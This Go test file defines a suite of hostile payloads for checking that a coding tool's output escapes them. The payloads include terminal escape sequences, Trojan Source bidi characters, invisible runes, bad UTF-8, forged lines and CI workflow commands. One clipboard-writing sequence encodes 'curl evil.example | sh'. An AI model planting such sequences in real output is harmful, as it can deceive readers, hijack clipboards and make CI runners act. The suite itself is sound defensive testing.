// Package showntest is the attack suite of the "what is shown" boundary:
// every output path that shows text from the worktree, a test run or the
// model (a CLI subcommand, the language server, a report renderer) must
// pass it. A path plants the suite's strings where an agent would (file
// names, changed lines, test names and output, reasons, model text), runs
// for real, and hands back what reached the reader; the suite checks that
// no hidden rune or byte got through and that each planted string is there
// in its visible, escaped form.
package showntest

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/bcode-dev/bcode/sandbox/shown"
)

// Attack is one hostile payload.
type Attack struct {
	Name    string
	Payload string
}

// FakeLine is the start of the line the newline attacks try to forge: a
// reader must never see it at the start of a line.
const FakeLine = "FINDING fake"

// Attacks returns every payload: each C0 control, DEL, each C1 control
// (as a rune and as a raw byte), escape sequences that erase, move, retitle,
// link, conceal or write the clipboard, the bidirectional controls of
// Trojan Source, invisible and default-ignorable characters, bytes that
// are not UTF-8, and forged lines.
func Attacks() []Attack {
	var as []Attack
	for c := 0; c < 0x20; c++ {
		as = append(as, Attack{fmt.Sprintf("C0 %#02x", c), string(rune(c))})
	}
	as = append(as, Attack{"DEL", "\x7f"})
	for r := rune(0x80); r < 0xa0; r++ {
		as = append(as, Attack{fmt.Sprintf("C1 U+%04X", r), string(r)})
	}
	as = append(as, sequences...)
	for _, r := range []rune{0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c} {
		as = append(as, Attack{fmt.Sprintf("bidi U+%04X", r), "admin" + string(r) + "user"})
	}
	for _, r := range invisible {
		as = append(as, Attack{fmt.Sprintf("invisible U+%04X", r), "a" + string(r) + "b"})
	}
	return append(as, encodings...)
}

var sequences = []Attack{
	{"erase line", "evil()\x1b[2K\x1b[1G// fine"},
	{"CR then column 1", "evil()\r\x1b[1G// innocent comment"},
	{"CR alone", "evil()\r// innocent"},
	{"cursor up and erase", "x\x1b[1A\x1b[2K"},
	{"clear screen", "\x1b[2J\x1b[H"},
	{"backspaces overwrite", "evil\b\b\b\bgood"},
	{"OSC window title BEL", "\x1b]0;pwned\x07"},
	{"OSC window title ST", "\x1b]2;pwned\x1b\\"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{"conceal SGR 8", "\x1b[8mhidden\x1b[28m"},
	{"fg equals bg", "\x1b[30;40mhidden\x1b[0m"},
	{"DCS", "\x1bP+q544e\x1b\\"},
	{"APC", "\x1b_payload\x1b\\"},
	{"PM and SOS", "\x1b^pm\x1b\\\x1bXsos\x1b\\"},
	{"8-bit CSI rune", "\u009b2K"},
	{"8-bit OSC rune", "\u009d0;pwned\u009c"},
	{"Trojan Source", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"},
	{"fake line after LF", "x\n" + FakeLine + ": nothing to see"},
	{"fake line after CRLF", "x\r\n" + FakeLine + ": nothing to see"},
	{"fake line after VT FF", "x\v\f" + FakeLine + ": nothing to see"},
	{"fake line after NEL", "x\u0085" + FakeLine + ": nothing to see"},
	{"fake line after LS PS", "x\u2028\u2029" + FakeLine + ": nothing to see"},
	{"tab", "a\tb"},
	{"GitHub legacy command", "##[add-mask]atk"},
	{"GitHub stop-commands", "x ##[stop-commands]tok"},
	{"GitHub command at line start", "::error file=a.go,line=1::pwned"},
	{"GitHub command after spaces", " \u00a0\t::warning::pwned"},
	{"GitHub command after newline", "x\n  ::notice::pwned"},
	{"Azure Pipelines command", "##vso[task.setvariable variable=x]y"},
}

// invisible are runes drawn as nothing (or acted on) that are not controls.
var invisible = []rune{
	0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d,
	0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206a, 0x206f, 0x3164, 0xfeff,
	0xffa0, 0xfe0f, 0xfff9, 0xfffa, 0xfffb, 0xe000, 0x0378,
	0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x1d173, 0xf0000,
}

var encodings = []Attack{
	{"raw 8-bit CSI byte", "a\x9b2Kb"},
	{"raw 8-bit OSC byte", "a\x9d0;t\x9cb"},
	{"byte 0xff", "a\xffb"},
	{"overlong slash", "a\xc0\xafb"},
	{"overlong ESC", "a\xc0\x9bb"},
	{"surrogate half", "a\xed\xa0\x80b"},
	{"cut rune", "a\xe2\x80b"},
	{"cut rune at end", "a\xe2\x80"},
	{"lone continuation", "a\x80\x80b"},
}

// Case is an attack as planted: Text carries a marker naming it, so the
// suite can find it in the output.
type Case struct {
	Attack
	Text string
}

// Options say what a path can carry and how it shows it.
type Options struct {
	// Shown is the form a planted string reaches the reader in
	// (shown.Line when nil; shown.Text for multi-line content).
	Shown func(string) string
	// Unplantable are bytes the path cannot carry (a file name holds no
	// NUL or slash); attacks holding one are left out.
	Unplantable string
	// Lines says the output is line-oriented and Shown keeps newlines:
	// then only the forged-line check is not made.
	Lines bool
}

// Cases returns the attacks a path with opts can carry, as planted.
func Cases(opts Options) []Case {
	var cs []Case
	for i, a := range Attacks() {
		if opts.Unplantable != "" && strings.ContainsAny(a.Payload, opts.Unplantable) {
			continue
		}
		cs = append(cs, Case{a, fmt.Sprintf("atk%03d[%s]end", i, a.Payload)})
	}
	return cs
}

// Run plants every case through show and checks what it returns: no
// hidden rune or byte but newline and tab, every planted string present in
// its shown form, and (unless opts.Lines) no forged line.
func Run(t *testing.T, opts Options, show func(t *testing.T, planted []Case) []byte) {
	t.Helper()
	cs := Cases(opts)
	out := show(t, cs)
	Check(t, opts, cs, out)
}

// Check is Run's verdict on one output, for a path that plants by itself.
func Check(t *testing.T, opts Options, cs []Case, out []byte) {
	t.Helper()
	form := opts.Shown
	if form == nil {
		form = shown.Line
	}
	raw := Raw(out)
	for _, r := range raw {
		t.Errorf("a hidden rune or byte reached the reader: %s", r)
	}
	missing := 0
	for _, c := range cs {
		if !strings.Contains(string(out), form(c.Text)) {
			missing++
			if missing <= 10 {
				t.Errorf("%s: not shown as %q", c.Name, form(c.Text))
			}
		}
	}
	if missing > 10 {
		t.Errorf("... and %d more attacks not shown in their escaped form", missing-10)
	}
	for _, cmd := range []string{"##[", "##vso["} {
		if strings.Contains(strings.ToLower(string(out)), cmd) {
			t.Errorf("a CI runner would act on %q in the output", cmd)
		}
	}
	for _, l := range strings.Split(string(out), "\n") {
		if l = strings.TrimLeftFunc(l, unicode.IsSpace); strings.HasPrefix(l, "::") && strings.Contains(l, "pwned") {
			t.Errorf("a planted workflow command starts a line: %q", l)
		}
	}
	if !opts.Lines {
		for _, l := range strings.Split(string(out), "\n") {
			if strings.HasPrefix(strings.TrimLeft(l, " \t"), FakeLine) {
				t.Errorf("a planted newline started a line of its own: %q", l)
			}
		}
	}
	if t.Failed() {
		t.Logf("output (%d bytes):\n%s", len(out), clipOut(out))
	} else {
		t.Logf("%d attacks held", len(cs))
	}
}

// Raw lists, with their offsets, the hidden runes (newline, tab and the
// carriage return of a CRLF allowed) and non-UTF-8 bytes in out.
func Raw(out []byte) []string {
	var found []string
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRune(out[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			found = append(found, fmt.Sprintf("byte %#02x at %d", out[i], i))
		case r == '\r' && i+1 < len(out) && out[i+1] == '\n':
		case r != '\n' && r != '\t' && shown.Hidden(r):
			found = append(found, fmt.Sprintf("%U at %d", r, i))
		}
		i += n
		if len(found) == 20 {
			return append(found, "...")
		}
	}
	return found
}

func clipOut(b []byte) string {
	const max = 4000
	s := shown.Text(string(b))
	if len(s) > max {
		return s[:max] + "..."
	}
	return s
}

// JSONStrings is every string of a JSON document, object keys included, as
// its reader decodes them, one per line: what an editor or a CI tool gets
// out of a JSON output path, for Check.
func JSONStrings(doc []byte) ([]byte, error) {
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		return nil, fmt.Errorf("not JSON: %w", err)
	}
	var out []string
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			out = append(out, v)
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for k, e := range v {
				out = append(out, k)
				walk(e)
			}
		}
	}
	walk(v)
	sort.Strings(out) // map order is random; a stable output reads better in a failure
	return []byte(strings.Join(out, "\n")), nil
}
